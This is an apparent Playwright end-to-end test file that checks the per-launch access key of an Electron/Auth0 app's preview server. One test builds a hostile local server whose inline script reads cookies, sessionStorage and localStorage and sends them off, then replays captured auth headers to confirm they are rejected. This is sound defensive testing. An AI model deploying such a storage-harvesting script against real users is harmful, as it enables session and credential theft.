/**
 * The preview's per-launch key, as a user meets it: `npm run preview` (the CLI itself, as a child
 * process) prints `Preview: http://127.0.0.1:<port>/#key=<key>`; that link opens the app, and the
 * key leaves the address bar at once. The bare address, another browser, and after a restart the
 * old link or the old key still in a tab get a page that says to open the link printed in the
 * terminal. And the key is no ambient credential: another server on 127.0.0.1 that the same browser
 * visits receives nothing that opens the preview (N3 of the second security review).
 */
import { spawn, type ChildProcess } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import { closedPort } from '../support/ports.ts';
import { envFor, expect, screenshot, seriousViolations, test } from './fixtures.ts';

interface RunningPreview {
  child: ChildProcess;
  /** The link as printed. */
  link: string;
  output: () => string;
}

/**
 * Starts `node src-main/preview/cli.ts` and waits for its `Preview:` line (an undefined value
 * unsets a variable).
 */
async function runPreviewCli(env: NodeJS.ProcessEnv): Promise<RunningPreview> {
  const childEnv: NodeJS.ProcessEnv = { ...process.env, ...env };
  for (const [name, value] of Object.entries(childEnv))
    if (value === undefined) delete childEnv[name];
  const child = spawn(process.execPath, ['src-main/preview/cli.ts'], {
    env: childEnv,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let output = '';
  child.stdout!.setEncoding('utf8').on('data', (chunk: string) => (output += chunk));
  child.stderr!.setEncoding('utf8').on('data', (chunk: string) => (output += chunk));
  const link = await new Promise<string>((resolve, reject) => {
    const timer = setTimeout(
      () => reject(new Error(`no "Preview:" line within 20 s:\n${output}`)),
      20_000,
    );
    const check = () => {
      const line = /^Preview: (\S+)$/m.exec(output);
      if (line) {
        clearTimeout(timer);
        resolve(line[1]!);
      }
    };
    child.stdout!.on('data', check);
    child.once('exit', (code) => reject(new Error(`the preview exited (${code}):\n${output}`)));
  });
  return { child, link, output: () => output };
}

async function stop(preview: RunningPreview | undefined): Promise<void> {
  if (!preview || preview.child.exitCode !== null) return;
  const exited = new Promise((resolve) => preview.child.once('exit', resolve));
  preview.child.kill('SIGTERM');
  await exited;
}

async function expectLockedPage(page: Page): Promise<void> {
  await expect(
    page.getByRole('heading', { level: 1, name: 'Open the link printed in the terminal' }),
  ).toBeVisible();
  await expect(page.getByRole('button', { name: 'Log In' })).toHaveCount(0);
}

test('npm run preview prints a link with a new key each launch; only that link opens the app', async ({
  page,
  browser,
  devstack,
}, testInfo) => {
  const port = await closedPort();
  const env = {
    ...envFor(devstack),
    PREVIEW_PORT: String(port),
    PREVIEW_DATA_DIR: mkdtempSync(path.join(os.tmpdir(), 'preview-key-e2e-')),
    PREVIEW_EXTERNAL_BROWSER: 'capture',
    PREVIEW_OPEN: '0',
  };
  let running: RunningPreview | undefined = await runPreviewCli(env);
  const stranger = await browser.newContext();
  try {
    const first = running.link;
    expect(first).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:${port}/#key=[\\w-]{43}$`));
    const origin = `http://127.0.0.1:${port}/`;

    // The printed link opens the app; the key is gone from the address bar (and so from history).
    await page.goto(first);
    await expect(page.getByRole('heading', { name: 'Electron Auth0 Hello World' })).toBeVisible();
    await expect(page).toHaveURL(`${origin}#/`);
    await expect(page.getByRole('button', { name: 'Log In' })).toBeVisible();
    // The tab keeps the key (sessionStorage) on reload and on other pages of the same launch.
    await page.goto(`${origin}#/public`);
    await page.reload();
    await expect(page.getByRole('main')).toContainText('This is a public message.');

    // The bare address in a browser that never opened the link: no app, a page saying what to do.
    const other = await stranger.newPage();
    await other.goto(origin);
    await expectLockedPage(other);
    await expect(other.getByText(`Preview: http://127.0.0.1:${port}/#key=…`)).toBeVisible();
    expect(await seriousViolations(other)).toEqual([]);
    await screenshot(other, testInfo, 'preview-open-the-printed-link');
    // The same link works in a second browser too: the key is good for the whole launch.
    await other.goto(first);
    await expect(other.getByRole('heading', { name: 'Electron Auth0 Hello World' })).toBeVisible();

    // Restart on the same port: a new key. The page still open with the old key says what to do.
    await stop(running);
    running = undefined;
    running = await runPreviewCli(env);
    const second = running.link;
    expect(second).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:${port}/#key=[\\w-]{43}$`));
    expect(second).not.toBe(first);
    // The window left open says so at once (issue 22, L13): no Log In that could only fail.
    await expectLockedPage(page);
    await expect(page.getByRole('main')).toContainText('The preview was restarted');
    await screenshot(page, testInfo, 'preview-old-key-after-restart');
    await page.reload();
    await expectLockedPage(page);
    // The old link does not open the new launch.
    await page.goto(first);
    await expectLockedPage(page);
    expect(page.url()).not.toContain('key=');
    // The new one does.
    await page.goto(second);
    await expect(page.getByRole('heading', { name: 'Electron Auth0 Hello World' })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Log In' })).toBeVisible();
  } finally {
    await stranger.close();
    await stop(running);
  }
});

test('no ambient credential: another server on 127.0.0.1 the same browser visits gets nothing that opens the preview', async ({
  page,
  app,
  context,
}) => {
  // Another local server the user happens to visit (a dev server, a notebook, a hostile program):
  // it records every request's headers and what its page can read of the browser's storage.
  const seen: Array<{ url: string; headers: IncomingHttpHeaders }> = [];
  const trap = createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    res.writeHead(200, { 'Content-Type': 'text/html' }).end(
      `<!doctype html><title>another local server</title><img src="/pixel.png" alt="">
      <script>
        fetch('/api', { credentials: 'include' });
        fetch('/report?' + encodeURIComponent(JSON.stringify({
          cookie: document.cookie,
          session: JSON.stringify(sessionStorage),
          local: JSON.stringify(localStorage),
        })), { credentials: 'include' });
      </script>`,
    );
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', () => resolve()));
  const trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}/`;
  try {
    // The app in use: opened from its link, a page that calls the bridge.
    await app.open('#/public');
    await expect(page.getByRole('main')).toContainText('This is a public message.');
    // The same browser visits the other server: in a new tab, and in the app's own tab.
    const other = await context.newPage();
    await other.goto(trapUrl);
    await page.goto(trapUrl);
    await expect.poll(() => seen.filter((each) => each.url.startsWith('/report')).length).toBe(2);
    expect(seen.length).toBeGreaterThanOrEqual(6);

    // Nothing it received carries the key…
    const key = app.preview.key;
    for (const each of seen) expect(JSON.stringify(each)).not.toContain(key);
    // …and whatever credential-like header it got, replayed at the preview, opens nothing.
    for (const each of seen) {
      const replay: Record<string, string> = {};
      for (const [name, value] of Object.entries(each.headers))
        if (/^(cookie|authorization|x-)/i.test(name) && typeof value === 'string')
          replay[name] = value;
      for (const [target, init] of [
        ['__bridge/session:get', { method: 'POST', body: '{"args":[]}' }],
        ['__preview/external-urls', { method: 'GET' }],
      ] as const) {
        const answer = await fetch(`${app.preview.url}${target}`, {
          ...init,
          headers: { ...replay, 'Content-Type': 'application/json' },
        });
        expect(answer.status, `${target} with ${JSON.stringify(replay)}`).toBe(401);
      }
    }
    // The app's tab, back on the preview, still works: the key never left it.
    await page.goto(`${app.preview.url}#/public`);
    await expect(page.getByRole('main')).toContainText('This is a public message.');
  } finally {
    trap.closeAllConnections();
    await new Promise((resolve) => trap.close(resolve));
  }
});

test('npm run preview opens its link through an owner-only file: the opener’s command line never holds the key', async ({
  page,
  devstack,
}) => {
  test.skip(process.platform !== 'linux', 'the preview opens with xdg-open only on Linux');
  // A stand-in xdg-open first on PATH: records its arguments and the mode of the file it was given
  // (what any local user could read in /proc/<pid>/cmdline), then exits like the real one.
  const dir = mkdtempSync(path.join(os.tmpdir(), 'preview-opener-'));
  const log = path.join(dir, 'argv.log');
  mkdirSync(path.join(dir, 'bin'));
  writeFileSync(
    path.join(dir, 'bin', 'xdg-open'),
    `#!/bin/sh\nfor arg in "$@"; do printf 'arg %s\\n' "$arg"; done >> '${log}'\nfile="\${1#file://}"\nprintf 'mode %s\\n' "$(stat -c %a "$file")" >> '${log}'\n`,
  );
  chmodSync(path.join(dir, 'bin', 'xdg-open'), 0o755);
  const running = await runPreviewCli({
    ...envFor(devstack),
    PATH: `${path.join(dir, 'bin')}:${process.env.PATH}`,
    PREVIEW_DATA_DIR: mkdtempSync(path.join(os.tmpdir(), 'preview-opener-data-')),
    PREVIEW_EXTERNAL_BROWSER: undefined,
    PREVIEW_OPEN: undefined,
    CI: undefined,
  });
  try {
    expect(running.link).toContain('#key=');
    await expect.poll(() => (existsSync(log) ? readFileSync(log, 'utf8') : '')).toContain('mode ');
    const lines = readFileSync(log, 'utf8').trim().split('\n');
    const args = lines.filter((line) => line.startsWith('arg ')).map((line) => line.slice(4));
    // One argument: a file, owner-only; no key anywhere on the command line.
    expect(args).toHaveLength(1);
    expect(args[0]).toMatch(/^file:\/\/\//);
    expect(args.join(' ')).not.toContain('key=');
    expect(args.join(' ')).not.toContain(new URL(running.link).hash.slice(5));
    expect(lines).toContain('mode 600');
    const file = fileURLToPath(args[0]!);
    expect(existsSync(file)).toBe(true);

    // The browser opens the file, which sends it to the link: the app opens.
    await page.goto(args[0]!);
    await expect(page.getByRole('heading', { name: 'Electron Auth0 Hello World' })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Log In' })).toBeVisible();
    // The key was used: the file is gone.
    await expect.poll(() => existsSync(file)).toBe(false);
  } finally {
    await stop(running);
  }
});
